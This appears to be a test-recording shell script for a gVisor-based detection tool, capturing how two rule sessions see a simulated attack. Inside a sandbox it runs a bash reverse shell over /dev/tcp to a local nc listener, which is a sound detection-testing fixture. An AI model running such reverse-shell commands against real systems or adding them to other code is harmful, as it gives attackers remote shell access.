#!/bin/sh
# Records what docs/tuning.md walks through: one reverse shell, seen by a session that was made for another rule
# (narrow) and by one that was made for the shipped rules (wide). As root on x86-64, from the root of the tree:
#   GYRFALCON=build/release/gyrfalcon sh tests/data/captures/tuning/record.sh RUNSC FOLDER [RUNSC FLAG...]
set -eu
. tests/record_lib.sh

begin_recording "$@"
ln -sf busybox "$scratch/rootfs/bin/nc"

# record NAME [FLAG OF session generate...]
record() {
  name=$1
  shift
  "$GYRFALCON" session generate "$@" --socket "$socket" >"$scratch/session.json"
  sed "s#$socket#/run/gyrfalcon/gvisor.sock#" "$scratch/session.json" >"$folder/../$name.json"
  start_recorder
  run_sandbox "$RUNSC" "$flags" "$scratch/state" "$scratch/rootfs" "$scratch/session.json" \
    'echo id | nc -l -p 4441 & sleep 0.3; bash -c "bash -i >& /dev/tcp/127.0.0.1/4441 0>&1"' \
    >"$scratch/sandbox.log" 2>&1 || say "$name: the command returned $?"
  keep "$name"
}

record narrow -r tests/data/captures/tuning/first.yaml
record wide
